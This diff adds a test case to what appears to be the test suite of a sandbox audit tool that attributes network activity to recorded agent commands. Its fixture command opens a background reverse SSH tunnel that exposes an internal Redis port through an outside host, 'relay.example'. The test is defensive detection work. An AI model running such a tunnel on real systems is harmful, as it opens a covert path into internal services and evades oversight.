@@ -100,3 +100,13 @@ it('says that no record names the episode of a sandbox of which only the lease i
   const report = await reportOf('unnamed', { leases });
   expect(tracesOf(report)[0]).toBe('the trace of what ran in sb-1 then: no record names its episode');
 });
+
+it('doubts a call that names the destination where the process of the flow runs what the call does not name', async () => {
+  const tunnel = { ...CALL, command: 'nohup ssh -N -R 9000:10.77.0.6:6379 relay.example &' };
+  const connect = audit({ at: 1795453264, pid: 900, ppid: 800, uid: 20_001 });
+  const named = { ...tunnel, command: tunnel.command.replace('ssh', 'x') };
+  const other = await reportOf('other-program', { leases: [leaseOf(1)], calls: [tunnel], audit: connect });
+  const same = await reportOf('same-program', { leases: [leaseOf(1)], calls: [named], audit: connect });
+  expect([other, same].map(({ attributions: [one] }) => one?.verdict)).toEqual(['ambiguous', 'likely']);
+  expect(other.attributions[0]?.evidence.map(({ code }) => code)).toContain('process-excludes');
+});
